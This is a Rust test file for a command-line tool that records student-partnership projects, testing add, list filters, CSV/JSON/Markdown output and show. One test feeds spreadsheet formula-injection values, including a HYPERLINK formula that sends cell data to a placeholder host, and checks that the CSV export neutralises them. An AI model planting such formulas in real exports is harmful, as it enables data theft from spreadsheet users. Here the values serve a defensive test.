//! `spm project ...`: add, list, show, edit, status, remove, and the output plumbing they share.

use std::collections::HashMap;
use std::io::{BufRead, BufReader};
use std::process::Stdio;

use serde_json::Value as Json;

use crate::common::{Env, TODAY, explain, json, read_csv};

/// The form and level every test project gets unless it says otherwise.
const FORM: &str = "wider-student-experience";
const LEVEL: &str = "partnership";

/// The demo's codes in list order: newest academic year first, then by code.
const DEMO_CODES: &[&str] = &[
    "data-ethics-2026",
    "lab-methods-2026",
    "sep-autumn-2026",
    "catalyst-access-2025",
    "cm-commuter-2025",
    "intern-archives-2025",
    "mh-peer-2025",
    "reading-lists-2025",
    "reps-forum-2025",
    "assessment-2024",
    "cm-feedback-2024",
    "welcome-2024",
];

/// The CSV and JSON columns of a project, in order.
const KEYS: &[&str] = &[
    "code",
    "title",
    "summary",
    "status",
    "form",
    "activity",
    "level_planned",
    "level_achieved",
    "department",
    "academic_year",
    "start_date",
    "end_date",
    "lead",
    "themes",
    "budget",
    "review_cadence",
    "created_at",
    "updated_at",
];

/// Adds a project titled `title` with the default form and level plus `extra` flags, and
/// returns its code.
fn add(env: &Env, title: &str, extra: &[&str]) -> String {
    let mut args = vec!["project", "add", title, "--form", FORM, "--level", LEVEL];
    args.extend_from_slice(extra);
    let out = env.ok(&args);
    out.trim_end().to_string()
}

/// `spm project add X --form FORM --level LEVEL` and then `extra`.
fn adding<'a>(extra: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec!["project", "add", "X", "--form", FORM, "--level", LEVEL];
    args.extend_from_slice(extra);
    args
}

/// A database holding one proposed project, `mental-health-2026`.
fn one_project() -> (Env, String) {
    let env = Env::new();
    let code = add(&env, "Mental health peer support", &[]);
    assert_eq!(code, "mental-health-2026");
    (env, code)
}

/// `spm --format json project show CODE`, parsed.
fn show(env: &Env, code: &str) -> Json {
    json(&env.ok(&["--format", "json", "project", "show", code]))
}

/// The codes `spm project list ARGS` returns, in order.
fn codes(env: &Env, args: &[&str]) -> Vec<String> {
    let mut full = vec!["--format", "json", "project", "list"];
    full.extend_from_slice(args);
    json(&env.ok(&full))
        .as_array()
        .expect("a JSON array")
        .iter()
        .map(|p| p["code"].as_str().expect("a code").to_string())
        .collect()
}

/// Expects `args` to fail with `code`, one error line containing `needle`, and no change.
fn refused(env: &Env, args: &[&str], code: i32, needle: &str) {
    let stderr = env.fails_unchanged(args, code);
    assert!(
        stderr.contains(needle),
        "spm {args:?}: expected {needle:?} in {stderr:?}"
    );
}

/// Expects clap to refuse `args` (exit 2) with `needle` on stderr, nothing on stdout, and no
/// change to the database.
fn clap_refused(env: &Env, args: &[&str], needle: &str) {
    let before = env.dump();
    let out = env.run(args);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        explain(args, &out, "to exit 2")
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains(needle), "spm {args:?}: {stderr}");
    assert!(
        out.stdout.is_empty(),
        "spm {args:?}: stdout should be empty"
    );
    assert_eq!(before, env.dump(), "spm {args:?} changed the database");
}

/// Runs spm expecting success, and returns everything it wrote (for tests of stderr).
fn run_ok(env: &Env, args: &[&str]) -> std::process::Output {
    let out = env.run(args);
    assert!(
        out.status.success(),
        "{}",
        explain(args, &out, "to succeed")
    );
    out
}

/// CSV text as one map per record, keyed by the header.
fn csv_records(text: &str) -> Vec<HashMap<String, String>> {
    let (header, rows) = read_csv(text);
    rows.into_iter()
        .map(|row| header.iter().cloned().zip(row).collect())
        .collect()
}

/// A plain `std::process::Command` for spm with the same isolation as `Env::cmd`, for tests
/// that need to choose where stdout goes.
fn std_command(env: &Env, args: &[&str]) -> std::process::Command {
    let isolated = env.cmd();
    let mut cmd = std::process::Command::new(isolated.get_program());
    for (key, value) in isolated.get_envs() {
        match value {
            Some(v) => cmd.env(key, v),
            None => cmd.env_remove(key),
        };
    }
    if let Some(dir) = isolated.get_current_dir() {
        cmd.current_dir(dir);
    }
    cmd.args(args).stdin(Stdio::null());
    cmd
}

// ---------------------------------------------------------------------------------------------
// add

#[test]
fn add_prints_only_the_generated_code() {
    let env = Env::new();
    let out = run_ok(
        &env,
        &[
            "project",
            "add",
            "Mental health peer support",
            "--form",
            FORM,
            "--level",
            LEVEL,
        ],
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), "mental-health-2026\n");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("created project mental-health-2026"),
        "{stderr}"
    );
}

#[test]
fn add_the_same_title_again_gets_a_numbered_suffix() {
    let (env, first) = one_project();
    let second = add(&env, "Mental health peer support", &[]);
    let third = add(&env, "Mental health peer support", &[]);
    assert_eq!(first, "mental-health-2026");
    assert_eq!(second, "mental-health-2026-2");
    assert_eq!(third, "mental-health-2026-3");
    assert_eq!(show(&env, &second)["title"], "Mental health peer support");
}

#[test]
fn add_generated_code_uses_the_given_year_and_skips_stop_words() {
    let env = Env::new();
    assert_eq!(
        add(
            &env,
            "The Co-creation of Reading Lists",
            &["--year", "2025/26"]
        ),
        "co-creation-2025"
    );
    assert_eq!(add(&env, "The", &[]), "project-2026");
}

#[test]
fn add_generated_codes_stay_valid_for_long_titles_used_many_times() {
    // The stem is cut to 32 characters, so "-2026-100" takes the code past the 40 allowed.
    let env = Env::new();
    let title = "Supercalifragilisticexpialidocious Antidisestablishmentarianism";
    for _ in 0..99 {
        add(&env, title, &[]);
    }
    let out = run_ok(
        &env,
        &["project", "add", title, "--form", FORM, "--level", LEVEL],
    );
    let code = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(
        !code.is_empty() && code.len() <= 40,
        "generated code {code:?} is not 1 to 40 characters"
    );
    assert_eq!(show(&env, &code)["title"], title);
}

#[test]
fn add_defaults_to_proposed_in_the_current_year_with_a_yearly_review() {
    let (env, code) = one_project();
    let p = show(&env, &code);
    assert_eq!(p["status"], "proposed");
    assert_eq!(p["academic_year"], "2026/27");
    assert_eq!(p["review_cadence"], "12m");
    assert_eq!(p["form"], FORM);
    assert_eq!(p["level_planned"], LEVEL);
    for key in [
        "summary",
        "activity",
        "level_achieved",
        "department",
        "start_date",
        "end_date",
        "lead",
        "budget",
    ] {
        assert!(p[key].is_null(), "{key} should be empty: {p}");
    }
    assert_eq!(p["themes"], serde_json::json!([]));
    assert_eq!(p["status_history"], serde_json::json!([]));
    let history = p["history"].as_array().expect("a history array");
    assert_eq!(history.len(), 1, "{p}");
    assert_eq!(history[0]["action"], "insert");
    assert_eq!(history[0]["actor"], "tester");
}

#[test]
fn add_every_flag_round_trips_through_json_show() {
    let env = Env::new();
    let code = add(
        &env,
        "Co-creating reading lists",
        &[
            "--code",
            "reading-lists",
            "--summary",
            "Students and lecturers curate reading lists together.",
            "--activity",
            "curriculum-design",
            "--achieved",
            "involvement",
            "--status",
            "active",
            "--dept",
            "Sociology",
            "--year",
            "2025/26",
            "--start",
            "2025-09-15",
            "--end",
            "2026-06-30",
            "--lead",
            "Prof. J. Osei",
            "--theme",
            "inclusion,decolonising",
            "--theme",
            "wellbeing",
            "--budget",
            "2500",
            "--cadence",
            "6m",
        ],
    );
    assert_eq!(code, "reading-lists");
    let p = show(&env, &code);
    let expected = [
        ("code", Json::from("reading-lists")),
        ("title", Json::from("Co-creating reading lists")),
        (
            "summary",
            Json::from("Students and lecturers curate reading lists together."),
        ),
        ("status", Json::from("active")),
        ("form", Json::from(FORM)),
        ("activity", Json::from("curriculum-design")),
        ("level_planned", Json::from(LEVEL)),
        ("level_achieved", Json::from("involvement")),
        ("department", Json::from("Sociology")),
        ("academic_year", Json::from("2025/26")),
        ("start_date", Json::from("2025-09-15")),
        ("end_date", Json::from("2026-06-30")),
        ("lead", Json::from("Prof. J. Osei")),
        (
            "themes",
            serde_json::json!(["decolonising", "inclusion", "wellbeing"]),
        ),
        ("budget", Json::from(2500.0)),
        ("review_cadence", Json::from("6m")),
    ];
    for (key, value) in expected {
        assert_eq!(p[key], value, "{key} in {p}");
    }
    // Registered as active: its status history starts on the start date.
    assert_eq!(p["status_history"][0]["status"], "active");
    assert_eq!(p["status_history"][0]["on"], "2025-09-15");
}

#[test]
fn add_the_department_alias_sets_the_department() {
    let env = Env::new();
    let code = add(&env, "Alias", &["--department", "Law"]);
    assert_eq!(show(&env, &code)["department"], "Law");
}

#[test]
fn add_budget_accepts_the_ways_people_write_money() {
    let env = Env::new();
    for (i, (text, pounds)) in [
        ("2500", 2500.0),
        ("2,500.00", 2500.0),
        ("£2,500", 2500.0),
        ("2500.5", 2500.5),
        ("0", 0.0),
    ]
    .into_iter()
    .enumerate()
    {
        let code = add(
            &env,
            "Budget",
            &["--code", &format!("budget-{i}"), "--budget", text],
        );
        assert_eq!(show(&env, &code)["budget"], pounds, "--budget {text}");
    }
}

#[test]
fn add_cadence_is_read_in_months_or_years() {
    let env = Env::new();
    for (i, (text, shown)) in [("6m", "6m"), ("1y", "12m"), ("18", "18m"), ("2Y", "24m")]
        .into_iter()
        .enumerate()
    {
        let code = add(
            &env,
            "Cadence",
            &["--code", &format!("cadence-{i}"), "--cadence", text],
        );
        assert_eq!(
            show(&env, &code)["review_cadence"],
            shown,
            "--cadence {text}"
        );
    }
}

#[test]
fn add_enum_names_are_case_insensitive() {
    let env = Env::new();
    let code = env
        .ok(&[
            "project",
            "add",
            "Shouting",
            "--form",
            "WIDER-Student-Experience",
            "--level",
            "Student_Led",
            "--activity",
            "Change-Makers",
            "--achieved",
            "PARTNERSHIP",
            "--status",
            "Paused",
            "--start",
            "2026-10-01",
        ])
        .trim()
        .to_string();
    let p = show(&env, &code);
    assert_eq!(p["form"], "wider-student-experience");
    assert_eq!(p["level_planned"], "student-led");
    assert_eq!(p["activity"], "change-makers");
    assert_eq!(p["level_achieved"], "partnership");
    assert_eq!(p["status"], "paused");
}

#[test]
fn add_themes_are_trimmed_deduplicated_and_sorted() {
    let env = Env::new();
    let code = add(
        &env,
        "Themes",
        &[
            "--theme",
            " wellbeing , Belonging",
            "--theme",
            "WELLBEING",
            "--theme",
            "",
            "--theme",
            "access",
        ],
    );
    assert_eq!(
        show(&env, &code)["themes"],
        serde_json::json!(["access", "Belonging", "wellbeing"])
    );
}

#[test]
fn add_code_is_lower_cased() {
    let env = Env::new();
    assert_eq!(add(&env, "Upper", &["--code", "MH-X-2026"]), "mh-x-2026");
    assert_eq!(show(&env, "mh-x-2026")["title"], "Upper");
}

#[test]
fn add_registered_as_active_without_a_start_date_starts_the_day_it_became_active() {
    // `spm project status CODE active` fills a missing start date; registering a project as
    // active should do the same, or its status history and start date disagree.
    let env = Env::new();
    let code = add(&env, "Already running", &["--status", "active"]);
    let p = show(&env, &code);
    assert_eq!(p["status_history"][0]["on"], TODAY, "{p}");
    assert_eq!(p["start_date"], TODAY, "{p}");
}

#[test]
fn add_without_form_or_level_is_a_usage_error() {
    let (env, _) = one_project();
    refused(
        &env,
        &["project", "add", "X", "--level", LEVEL],
        64,
        "--form is required; one of: co-creation-of-curriculum",
    );
    refused(
        &env,
        &["project", "add", "X", "--form", FORM],
        64,
        "--level is required; one of: consultation",
    );
}

#[test]
fn add_without_a_title_and_no_terminal_is_a_usage_error() {
    let (env, _) = one_project();
    refused(
        &env,
        &["project", "add", "--form", FORM, "--level", LEVEL],
        64,
        "a title is needed, and there is no terminal to ask for it",
    );
}

#[test]
fn add_bad_enum_values_suggest_the_closest_name() {
    let (env, _) = one_project();
    refused(
        &env,
        &["project", "add", "X", "--form", "widr", "--level", LEVEL],
        65,
        r#"unknown form "widr"; did you mean "wider-student-experience"?"#,
    );
    refused(
        &env,
        &[
            "project",
            "add",
            "X",
            "--form",
            FORM,
            "--level",
            "partnershp",
        ],
        65,
        r#"unknown engagement level "partnershp"; did you mean "partnership"?"#,
    );
    refused(
        &env,
        &["project", "add", "X", "--form", FORM, "--level", "zzz"],
        65,
        "expected one of: consultation, involvement, partnership, student-led",
    );
    for (flag, value, message) in [
        (
            "--activity",
            "chnge-makers",
            r#"unknown activity "chnge-makers"; did you mean "change-makers"?"#,
        ),
        ("--achieved", "involvment", r#"did you mean "involvement"?"#),
        (
            "--status",
            "activ",
            r#"unknown status "activ"; did you mean "active"?"#,
        ),
    ] {
        refused(&env, &adding(&[flag, value]), 65, message);
    }
}

#[test]
fn add_bad_dates_are_refused() {
    let (env, _) = one_project();
    for flag in ["--start", "--end"] {
        refused(
            &env,
            &adding(&[flag, "2024-02-30"]),
            65,
            r#"date "2024-02-30" is not a day of the calendar"#,
        );
        refused(
            &env,
            &adding(&[flag, "1/2/03"]),
            65,
            r#"date "1/2/03" is not written YYYY-MM-DD"#,
        );
    }
}

#[test]
fn add_an_end_before_the_start_is_refused() {
    let (env, _) = one_project();
    refused(
        &env,
        &adding(&["--start", "2026-01-02", "--end", "2026-01-01"]),
        65,
        "the end date 2026-01-01 is before the start date 2026-01-02",
    );
}

#[test]
fn add_an_academic_year_that_does_not_follow_is_refused() {
    let (env, _) = one_project();
    refused(
        &env,
        &adding(&["--year", "2025/27"]),
        65,
        r#"academic year "2025/27" does not span two consecutive years; did you mean "2025/26"?"#,
    );
    refused(
        &env,
        &adding(&["--year", "2025"]),
        65,
        "is not of the form 2025/26",
    );
}

#[test]
fn add_bad_budgets_are_refused() {
    let (env, _) = one_project();
    for (text, message) in [
        ("-5", r#"amount "-5" is negative"#),
        (
            "2.555",
            r#"amount "2.555" has more than two decimal places"#,
        ),
        ("abc", r#"amount "abc" is not an amount of money"#),
        ("2,50", r#"amount "2,50" is not an amount of money"#),
    ] {
        refused(&env, &adding(&["--budget", text]), 65, message);
    }
}

#[test]
fn add_a_taken_code_is_refused() {
    let (env, code) = one_project();
    refused(
        &env,
        &adding(&["--code", &code]),
        65,
        r#"a project with code "mental-health-2026" already exists; choose another --code"#,
    );
    // Codes are case-insensitive, so the upper-case spelling is taken too.
    refused(
        &env,
        &adding(&["--code", "MENTAL-HEALTH-2026"]),
        65,
        "already exists",
    );
}

#[test]
fn add_a_malformed_code_is_refused() {
    let (env, _) = one_project();
    let long = format!("--code={}", "x".repeat(41));
    for bad in [
        "--code=bad code",
        "--code=a_b",
        "--code=-x",
        "--code=",
        &long,
    ] {
        refused(
            &env,
            &adding(&[bad]),
            65,
            "is not valid: use 1 to 40 letters, digits and hyphens",
        );
    }
}

#[test]
fn add_a_bad_cadence_is_refused() {
    let (env, _) = one_project();
    for bad in ["0m", "121m", "often"] {
        refused(
            &env,
            &adding(&["--cadence", bad]),
            65,
            &format!("review cadence {bad:?} is not valid"),
        );
    }
}

#[test]
fn add_a_blank_or_multi_line_title_is_refused() {
    let (env, _) = one_project();
    refused(
        &env,
        &["project", "add", "  ", "--form", FORM, "--level", LEVEL],
        65,
        "a project needs a title",
    );
    refused(
        &env,
        &[
            "project",
            "add",
            "Line\ntwo",
            "--form",
            FORM,
            "--level",
            LEVEL,
        ],
        65,
        "a project title is one line",
    );
}

#[test]
fn add_control_characters_in_text_are_refused() {
    let (env, _) = one_project();
    refused(
        &env,
        &adding(&["--lead", "Dr\u{7} X"]),
        65,
        "the staff lead contains control characters",
    );
}

#[test]
fn add_an_unknown_flag_is_a_clap_error() {
    let (env, _) = one_project();
    clap_refused(&env, &adding(&["--bogus"]), "unexpected argument '--bogus'");
}

// ---------------------------------------------------------------------------------------------
// list

#[test]
fn list_shows_every_demo_project_newest_year_first() {
    let env = Env::demo();
    assert_eq!(codes(&env, &[]), DEMO_CODES);
}

#[test]
fn list_ls_is_an_alias() {
    let env = Env::demo();
    assert_eq!(
        env.ok(&["project", "ls", "--status", "paused"]),
        env.ok(&["project", "list", "--status", "paused"])
    );
    let listed = json(&env.ok(&["--format", "json", "project", "ls", "--status", "paused"]));
    assert_eq!(listed[0]["code"], "reps-forum-2025");
}

#[test]
fn list_filters_by_status() {
    let env = Env::demo();
    assert_eq!(
        codes(&env, &["--status", "active"]),
        [
            "sep-autumn-2026",
            "catalyst-access-2025",
            "cm-commuter-2025",
            "intern-archives-2025",
            "mh-peer-2025",
            "reading-lists-2025",
        ]
    );
    assert_eq!(
        codes(&env, &["--status", "Completed"]),
        ["assessment-2024", "cm-feedback-2024"]
    );
    assert_eq!(codes(&env, &["--status", "withdrawn"]), ["welcome-2024"]);
}

#[test]
fn list_filters_by_academic_year() {
    let env = Env::demo();
    let expected = ["assessment-2024", "cm-feedback-2024", "welcome-2024"];
    assert_eq!(codes(&env, &["--year", "2024/25"]), expected);
    assert_eq!(codes(&env, &["--year", "2024-2025"]), expected);
}

#[test]
fn list_filters_by_form() {
    let env = Env::demo();
    assert_eq!(
        codes(&env, &["--form", "educational-research"]),
        ["sep-autumn-2026", "cm-commuter-2025", "cm-feedback-2024"]
    );
}

#[test]
fn list_filters_by_planned_level() {
    let env = Env::demo();
    assert_eq!(
        codes(&env, &["--level", "student-led"]),
        ["cm-commuter-2025", "cm-feedback-2024", "welcome-2024"]
    );
    assert_eq!(
        codes(&env, &["--level", "consultation"]),
        ["sep-autumn-2026"]
    );
}

#[test]
fn list_filters_by_activity() {
    let env = Env::demo();
    assert_eq!(
        codes(&env, &["--activity", "change-makers"]),
        ["cm-commuter-2025", "cm-feedback-2024"]
    );
}

#[test]
fn list_filters_by_whole_department_in_any_case() {
    let env = Env::demo();
    let expected = ["sep-autumn-2026", "cm-commuter-2025", "cm-feedback-2024"];
    assert_eq!(codes(&env, &["--dept", "eden centre"]), expected);
    assert_eq!(codes(&env, &["--department", "EDEN CENTRE"]), expected);
    assert!(codes(&env, &["--dept", "Eden"]).is_empty());
}

#[test]
fn list_filters_by_whole_theme_in_any_case() {
    let env = Env::demo();
    assert_eq!(
        codes(&env, &["--theme", "Assessment"]),
        ["sep-autumn-2026", "assessment-2024", "cm-feedback-2024"]
    );
    assert_eq!(
        codes(&env, &["--theme", "research skills"]),
        ["data-ethics-2026", "intern-archives-2025"]
    );
    assert!(codes(&env, &["--theme", "research"]).is_empty());
}

#[test]
fn list_filters_by_part_of_the_staff_lead() {
    let env = Env::demo();
    assert_eq!(
        codes(&env, &["--lead", "khan"]),
        ["mh-peer-2025", "welcome-2024"]
    );
    assert_eq!(
        codes(&env, &["--lead", "S. Chen"]),
        ["data-ethics-2026", "lab-methods-2026"]
    );
}

#[test]
fn list_search_looks_in_code_title_summary_department_lead_and_themes() {
    let env = Env::demo();
    // "peer" is in mh-peer-2025's code and title, and in cm-feedback-2024's summary.
    assert_eq!(
        codes(&env, &["--search", "PEER"]),
        ["mh-peer-2025", "cm-feedback-2024"]
    );
    // A department, a lead and a theme.
    assert_eq!(
        codes(&env, &["--search", "methodology"]),
        ["lab-methods-2026"]
    );
    assert_eq!(
        codes(&env, &["--search", "Novak"]),
        ["intern-archives-2025"]
    );
    assert_eq!(
        codes(&env, &["--search", "timetabling"]),
        ["cm-commuter-2025"]
    );
}

#[test]
fn list_search_treats_percent_and_underscore_literally() {
    let env = Env::demo();
    assert!(codes(&env, &["--search", "%"]).is_empty());
    assert!(codes(&env, &["--search", "_"]).is_empty());
    assert!(codes(&env, &["--search", "\\"]).is_empty());
    let percent = add(&env, "Attendance up 100% this term", &["--code", "percent"]);
    let underscore = add(&env, "snake_case names", &["--code", "underscore"]);
    assert_eq!(codes(&env, &["--search", "%"]), [percent.as_str()]);
    assert_eq!(codes(&env, &["--search", "100%"]), [percent.as_str()]);
    assert_eq!(codes(&env, &["--search", "_"]), [underscore.as_str()]);
    // "e_c" would match "e-c" or "e c" if "_" were a wildcard.
    assert_eq!(codes(&env, &["--search", "e_c"]), [underscore.as_str()]);
    assert_eq!(codes(&env, &["--lead", "%"]), Vec::<String>::new());
}

#[test]
fn list_filters_combine() {
    let env = Env::demo();
    assert_eq!(
        codes(&env, &["--status", "active", "--year", "2025/26"]),
        [
            "catalyst-access-2025",
            "cm-commuter-2025",
            "intern-archives-2025",
            "mh-peer-2025",
            "reading-lists-2025",
        ]
    );
    assert_eq!(
        codes(&env, &["--lead", "halls", "--status", "completed"]),
        ["cm-feedback-2024"]
    );
    assert!(codes(&env, &["--theme", "wellbeing", "--year", "2024/25"]).is_empty());
}

#[test]
fn list_bad_filter_values_are_refused() {
    let env = Env::demo();
    for (args, message) in [
        (["--status", "activ"], r#"did you mean "active"?"#),
        (["--year", "2025/27"], r#"did you mean "2025/26"?"#),
        (["--form", "curicullum"], r#"unknown form "curicullum""#),
        (["--level", "zzz"], r#"unknown engagement level "zzz""#),
        (["--activity", "panel"], r#"unknown activity "panel""#),
    ] {
        let mut full = vec!["project", "list"];
        full.extend_from_slice(&args);
        refused(&env, &full, 65, message);
    }
}

#[test]
fn list_an_unknown_flag_is_a_clap_error() {
    let env = Env::demo();
    clap_refused(
        &env,
        &["project", "list", "--colour"],
        "unexpected argument '--colour'",
    );
    clap_refused(
        &env,
        &["--format", "xml", "project", "list"],
        "invalid value 'xml'",
    );
}

// ---------------------------------------------------------------------------------------------
// formats and output

#[test]
fn list_csv_has_every_column_by_key() {
    let env = Env::demo();
    let text = env.ok(&["--format", "csv", "project", "list", "--status", "paused"]);
    let (header, rows) = read_csv(&text);
    assert_eq!(header, KEYS);
    assert_eq!(rows.len(), 1);
    let rec = &csv_records(&text)[0];
    assert_eq!(rec["code"], "reps-forum-2025");
    assert_eq!(rec["title"], "Academic representatives' forum");
    assert_eq!(rec["status"], "paused");
    assert_eq!(rec["academic_year"], "2025/26");
    assert_eq!(rec["start_date"], "2025-10-20");
    assert_eq!(rec["end_date"], "");
    assert_eq!(rec["budget"], "");
    assert_eq!(rec["review_cadence"], "12m");
}

#[test]
fn list_csv_writes_plain_money_and_joined_themes() {
    let env = Env::demo();
    let text = env.ok(&["--format", "csv", "project", "list", "--search", "mh-peer"]);
    let rec = &csv_records(&text)[0];
    assert_eq!(rec["budget"], "2500.00");
    assert_eq!(rec["themes"], "mental health; wellbeing");
}

#[test]
fn list_json_keeps_numbers_as_numbers_and_themes_as_arrays() {
    let env = Env::demo();
    let list = json(&env.ok(&["--format", "json", "project", "list"]));
    let list = list.as_array().expect("an array");
    assert_eq!(list.len(), 12);
    let mh = list
        .iter()
        .find(|p| p["code"] == "mh-peer-2025")
        .expect("mh-peer-2025");
    assert!(mh["budget"].is_number(), "{mh}");
    assert_eq!(mh["budget"], 2500.0);
    assert_eq!(
        mh["themes"],
        serde_json::json!(["mental health", "wellbeing"])
    );
    assert!(mh["end_date"].is_null());
    let keys: Vec<&str> = mh
        .as_object()
        .expect("an object")
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(keys, KEYS);
    let reps = list
        .iter()
        .find(|p| p["code"] == "reps-forum-2025")
        .expect("reps-forum-2025");
    assert!(reps["budget"].is_null());
}

#[test]
fn list_markdown_is_a_table_with_the_narrow_columns() {
    let env = Env::demo();
    let text = env.ok(&["--format", "md", "project", "list", "--status", "paused"]);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[0],
        "| Code | Title | Status | Form | Planned level | Department | Year | Staff lead | Themes | Budget |"
    );
    assert_eq!(lines[1], "|---|---|---|---|---|---|---|---|---|---|");
    assert!(lines[2].starts_with("| reps-forum-2025 | Academic representatives' forum | paused |"));
    assert_eq!(lines.len(), 3, "{text}");
}

#[test]
fn list_table_is_for_a_person() {
    let env = Env::demo();
    let text = env.ok(&["--format", "table", "project", "list"]);
    for header in ["Code", "Title", "Status", "Staff lead", "Budget"] {
        assert!(text.contains(header), "no {header} in {text}");
    }
    // The table leaves out the long columns that scripts get.
    assert!(!text.contains("Summary"), "{text}");
    for code in DEMO_CODES {
        assert!(text.contains(code), "no {code} in {text}");
    }
    assert!(text.contains("£2,500.00"), "{text}");
    // The default format is the table.
    assert_eq!(text, env.ok(&["project", "list"]));
}

#[test]
fn list_format_may_follow_the_subcommand() {
    let env = Env::demo();
    assert_eq!(
        env.ok(&["project", "list", "--format", "csv"]),
        env.ok(&["--format", "csv", "project", "list"])
    );
}

#[test]
fn list_output_file_gets_the_output_and_stdout_nothing() {
    let env = Env::demo();
    let file = env.path("projects.csv");
    let file_arg = file.to_str().expect("a UTF-8 path");
    let stdout = env.ok(&["--format", "csv", "project", "list", "-o", file_arg]);
    assert_eq!(stdout, "");
    let written = std::fs::read_to_string(&file).expect("the output file");
    let (header, rows) = read_csv(&written);
    assert_eq!(header, KEYS);
    assert_eq!(rows.len(), 12);
    // --output replaces the file whole.
    env.ok(&[
        "--format", "csv", "project", "list", "--status", "paused", "--output", file_arg,
    ]);
    let (_, rows) = read_csv(&std::fs::read_to_string(&file).expect("the output file"));
    assert_eq!(rows.len(), 1);
}

#[test]
fn list_output_into_a_missing_folder_exits_73() {
    let env = Env::demo();
    let file = env.path("no-such-folder").join("projects.csv");
    refused(
        &env,
        &[
            "--format",
            "csv",
            "project",
            "list",
            "--output",
            file.to_str().expect("UTF-8"),
        ],
        73,
        "cannot create",
    );
    assert!(!file.exists());
}

#[test]
fn list_output_to_a_folder_exits_73() {
    let env = Env::demo();
    let dir = env.path("");
    refused(
        &env,
        &["project", "list", "--output", dir.to_str().expect("UTF-8")],
        73,
        "it is a folder; give a file name",
    );
}

#[test]
fn csv_guards_cells_a_spreadsheet_would_run_and_json_keeps_them() {
    let env = Env::new();
    let values = [
        "=1+2",
        "+44 20 7946 0000",
        "-5",
        "@SUM(A1)",
        "=HYPERLINK(\"http://x/?\"&A1)",
    ];
    for (i, value) in values.iter().enumerate() {
        let summary = format!("--summary={value}");
        let lead = format!("--lead={value}");
        let dept = format!("--dept={value}");
        let theme = format!("--theme={value}");
        let code = format!("inject-{i}");
        // "--" lets a title such as "-5" through as the title.
        env.ok(&[
            "project", "add", "--code", &code, "--form", FORM, "--level", LEVEL, &summary, &lead,
            &dept, &theme, "--", value,
        ]);
    }
    // A title is one trimmed line, so a leading tab or CR can only be tried in the summary;
    // free text is trimmed, so it is stored from the "=".
    for (code, summary) in [("inject-tab", "\t=1"), ("inject-cr", "\r=1")] {
        env.ok(&[
            "project",
            "add",
            "Leading control",
            "--code",
            code,
            "--form",
            FORM,
            "--level",
            LEVEL,
            "--summary",
            summary,
        ]);
    }

    let csv = env.ok(&["--format", "csv", "project", "list"]);
    let records = csv_records(&csv);
    let listed = json(&env.ok(&["--format", "json", "project", "list"]));
    let by_code = |code: &str| -> (&HashMap<String, String>, &Json) {
        let rec = records
            .iter()
            .find(|r| r["code"] == code)
            .unwrap_or_else(|| panic!("{code} in {csv}"));
        let obj = listed
            .as_array()
            .expect("an array")
            .iter()
            .find(|p| p["code"] == code)
            .unwrap_or_else(|| panic!("{code} in {listed}"));
        (rec, obj)
    };
    for (i, value) in values.iter().enumerate() {
        let (rec, obj) = by_code(&format!("inject-{i}"));
        for key in ["title", "summary", "lead", "department", "themes"] {
            assert_eq!(rec[key], format!("'{value}"), "CSV {key} for {value:?}");
        }
        for key in ["title", "summary", "lead", "department"] {
            assert_eq!(obj[key], *value, "JSON {key} for {value:?}");
        }
        assert_eq!(obj["themes"], serde_json::json!([value]));
        // The show record's CSV row is guarded too.
        let shown = env.ok(&["--format", "csv", "project", "show", &format!("inject-{i}")]);
        assert_eq!(csv_records(&shown)[0]["title"], format!("'{value}"));
    }
    for code in ["inject-tab", "inject-cr"] {
        let (rec, obj) = by_code(code);
        assert!(
            rec["summary"].starts_with('\''),
            "{code}: {:?}",
            rec["summary"]
        );
        assert_eq!(rec["summary"], "'=1");
        assert_eq!(obj["summary"], "=1");
    }
}

// ---------------------------------------------------------------------------------------------
// show

#[test]
fn show_table_has_the_fields_and_both_history_sections() {
    let env = Env::demo();
    let text = env.ok(&["project", "show", "mh-peer-2025"]);
    for needle in [
        "Code",
        "mh-peer-2025",
        "Mental health peer support",
        "Planned level",
        "Achieved level",
        "Student Services",
        "2025/26",
        "2025-10-01",
        "Dr A. Khan",
        "mental health, wellbeing",
        "£2,500.00",
        "Review cadence",
        "Status history",
        "History",
        "tester",
        "created",
    ] {
        assert!(text.contains(needle), "no {needle:?} in {text}");
    }
    let status_at = text.find("Status history").expect("a status history");
    let history_at = text.rfind("\nHistory").expect("a history");
    assert!(status_at < history_at, "{text}");
}

#[test]
fn show_table_says_none_when_there_is_no_status_history() {
    let (env, code) = one_project();
    let text = env.ok(&["project", "show", &code]);
    assert!(text.contains("Status history\n(none)"), "{text}");
}

#[test]
fn show_json_has_the_fields_and_history_arrays() {
    let env = Env::demo();
    let p = show(&env, "assessment-2024");
    for key in KEYS {
        assert!(p.get(key).is_some(), "no {key} in {p}");
    }
    assert_eq!(p["status"], "completed");
    assert_eq!(p["budget"], 800.0);
    let statuses = p["status_history"]
        .as_array()
        .expect("status_history array");
    assert_eq!(statuses.len(), 1, "{p}");
    assert_eq!(statuses[0]["status"], "completed");
    assert_eq!(statuses[0]["on"], "2025-06-30");
    let history = p["history"].as_array().expect("history array");
    assert_eq!(history.len(), 1, "{p}");
    for key in ["at", "actor", "action", "fields"] {
        assert!(history[0].get(key).is_some(), "no {key} in {p}");
    }
}

#[test]
fn show_markdown_has_the_fields_and_sections() {
    let env = Env::demo();
    let text = env.ok(&["--format", "md", "project", "show", "mh-peer-2025"]);
    assert!(
        text.starts_with("| Field | Value |\n|---|---|\n| Code | mh-peer-2025 |"),
        "{text}"
    );
    assert!(text.contains("## Status history"), "{text}");
    assert!(text.contains("## History"), "{text}");
}

#[test]
fn show_history_after_an_edit_has_the_old_and_new_values() {
    let (env, code) = one_project();
    env.ok(&[
        "project",
        "edit",
        &code,
        "--title",
        "Peer wellbeing support",
        "--dept",
        "Law",
    ]);
    let p = show(&env, &code);
    let history = p["history"].as_array().expect("history array");
    assert_eq!(history.len(), 2, "{p}");
    assert_eq!(history[1]["action"], "update");
    assert_eq!(history[1]["actor"], "tester");
    let fields = history[1]["fields"].as_str().expect("a description");
    assert!(
        fields.contains("Mental health peer support") && fields.contains("Peer wellbeing support"),
        "{fields}"
    );
    assert!(
